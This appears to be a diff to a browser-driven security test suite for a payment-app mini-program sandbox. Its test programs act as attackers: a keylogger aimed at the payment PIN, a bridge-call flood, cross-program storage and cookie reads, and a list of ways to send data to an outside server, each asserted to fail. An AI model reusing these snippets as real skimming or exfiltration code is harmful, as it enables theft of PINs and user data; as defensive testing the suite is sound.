@@ -84,22 +84,21 @@ story(
     const note = (event) => { stolen += event.key ?? event.data ?? ''; };
     for (const type of ['keydown', 'beforeinput']) addEventListener(type, note, true);
     // any machine: so often that there is a turn whenever a key comes
-    button('arm', () => setInterval(() => { turns += 1; window.focus(); bag.focus(); document.documentElement.inert = false; }, 5));
+    button('arm', () => { stolen = ''; setInterval(() => { turns += 1; window.focus(); bag.focus(); document.documentElement.inert = false; }, 5); });
     button('tell', () => say('stolen:' + stolen + ' ' + (turns > 0)));`),
   H5,
   async (phone, page, id) => {
     await phone.frame.locator("#url").fill(await merchant.order(1000));
     await phone.frame.locator("#arm").click();
     await phone.frame.locator("#pay").dispatchEvent("click");
-    await phone.sheet.locator("input").first().waitFor();
-    for (const digit of PIN) {
-      await page.keyboard.press(digit);
-      // any machine: pauses in which the program has turns; nothing is asserted about their length
-      await page.waitForTimeout(40);
-    }
+    await phone.sheet.locator(".pad").waitFor();
+    // There is no field to type into: a browser lets such a program have the keyboard.
+    assert.equal(await phone.sheet.locator("input").count(), 0);
+    await phone.pad(PIN);
     await phone.outcome(/^pay 9000$/);
     await phone.frame.locator("#tell").dispatchEvent("click");
     const told = await phone.outcome(/^stolen:/);
+    assert.match(told, /true$/);
     assert.doesNotMatch(told, /[0-9]/, told);
     await closes(page, id);
   },
@@ -123,7 +122,8 @@ story(
   web(`button('go', () => { say('flooding'); for (let round = 0; round < 200000; round += 1) AlipayJSBridge.call('getRunScene', {}, () => {}); });`),
   H5,
   async (phone, page, id) => {
-    await phone.frame.locator("#go").dispatchEvent("click");
+    // The frame is gone before the script has ended.
+    phone.frame.locator("#go").dispatchEvent("click").catch(() => {});
     await page.locator(".program-body [role=alert]").waitFor();
     // Far fewer than were sent: the channel was closed, not emptied.
     const { all } = await handled(page);
@@ -175,9 +175,9 @@ story(
 );
 
 test("storage", async () => {
-  const keeper = web(`button('keep', async () => { localStorage.setItem('secret', 'of the keeper'); await call('setTinyLocalStorage', { key: 'secret', data: 'of the keeper' }); say('kept'); });`);
-  const thief = web(`button('look', async () => { const { data } = await call('getTinyLocalStorage', { key: 'secret' }); const info = await call('getTinyLocalStorageInfo', {});
-      say('found ' + data + ' ' + localStorage.getItem('secret') + ' ' + document.cookie + ' ' + info.keys.length); });`);
+  const keeper = web(`button('keep', async () => { try { localStorage.setItem('secret', 'of the keeper'); } catch {} await call('setTinyLocalStorage', { key: 'secret', data: 'of the keeper' }); say('kept'); });`);
+  const thief = web(`button('look', async () => { let kept = null; try { kept = localStorage.getItem('secret'); } catch {} const { data } = await call('getTinyLocalStorage', { key: 'secret' }); const info = await call('getTinyLocalStorageInfo', {});
+      say('found ' + data + ' ' + kept + ' ' + document.cookie + ' ' + info.keys.length); });`);
   addProgram(demo, "keeper", keeper, H5);
   addProgram(demo, "burglar", thief, H5);
   const context = await openContext(browser, WIDE);
@@ -208,11 +208,11 @@ story(
   async (phone, page, id) => {
     await phone.frame.locator("#url").fill(await merchant.order(1000));
     await phone.frame.locator("#pay").click();
-    await phone.sheet.locator("input").first().waitFor();
+    await phone.sheet.locator(".pad").waitFor();
     await phone.frame.locator("#forge").dispatchEvent("click");
     await until(async () => (await phone.frame.locator(".out").textContent()) === "forged", "the forged messages");
-    assert.equal(await phone.sheet.locator("input").count(), 1, "the sheet still asks");
-    await phone.pin(PIN);
+    assert.equal(await phone.sheet.locator(".pad").count(), 1, "the sheet still asks");
+    await phone.pad(PIN);
     await phone.outcome(/^pay 9000$/);
     await closes(page, id);
   },
@@ -230,7 +230,7 @@ story(
   async (phone, page, id) => {
     await phone.frame.locator("#url").fill(await merchant.order(1000));
     await phone.frame.locator("#pay").click();
-    await phone.pin(PIN);
+    await phone.pad(PIN);
     await phone.outcome(/^pay 9000$/);
     await phone.frame.locator("#tell").click();
     const told = await phone.outcome(/^heard/);
@@ -243,7 +243,6 @@ test("network", async () => {
   const files = web(`button('go', async () => {
       const url = OUTSIDE; const tries = [
         () => fetch(url + '/fetch', { mode: 'no-cors' }), () => navigator.sendBeacon(url + '/beacon', 'x'), () => { new Image().src = url + '/image'; },
-        () => { const form = document.createElement('form'); form.action = url + '/form'; form.method = 'post'; document.body.append(form); form.submit(); },
         () => { const frame = document.createElement('iframe'); frame.src = url + '/frame'; document.body.append(frame); },
         () => { const link = document.createElement('link'); link.rel = 'prefetch'; link.href = url + '/prefetch'; document.head.append(link); },
         () => { const style = document.createElement('style'); style.textContent = '@import url(' + url + '/style);body{background:url(' + url + '/background)}'; document.head.append(style); },
@@ -253,7 +252,7 @@ test("network", async () => {
       for (const run of tries) await Promise.resolve().then(run).catch(() => {});
       setTimeout(() => say('tried ' + tries.length), 100);
     });
-    button('away', () => { location.href = OUTSIDE + '/away'; });`);
+    button('away', () => { setTimeout(() => { location.href = OUTSIDE + '/away'; }); const form = document.createElement('form'); form.action = OUTSIDE + '/form'; form.method = 'post'; document.body.append(form); form.submit(); });`);
   files["index.html"] = files["index.html"].replaceAll("OUTSIDE", `'${outside.url}'`);
   addProgram(demo, "sender", files, H5);
   const context = await openContext(browser, WIDE);
@@ -263,9 +262,9 @@ test("network", async () => {
     const phone = await Phone.open(page, demo);
     await phone.start("sender");
     await phone.frame.locator("#go").click();
-    await phone.outcome(/^tried 13$/);
+    await phone.outcome(/^tried 12$/);
     const frame = page.frames().find((one) => one.url().includes("sender.localhost"));
-    assert.equal(await frame.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length), 0);
+    assert.equal(await frame.evaluate(() => navigator.serviceWorker.getRegistrations().then((all) => all.length, () => 0)), 0);
     await phone.frame.locator("#away").click().catch(() => {});
     await closes(page, "sender");
     assert.deepEqual(outside.seen, []);
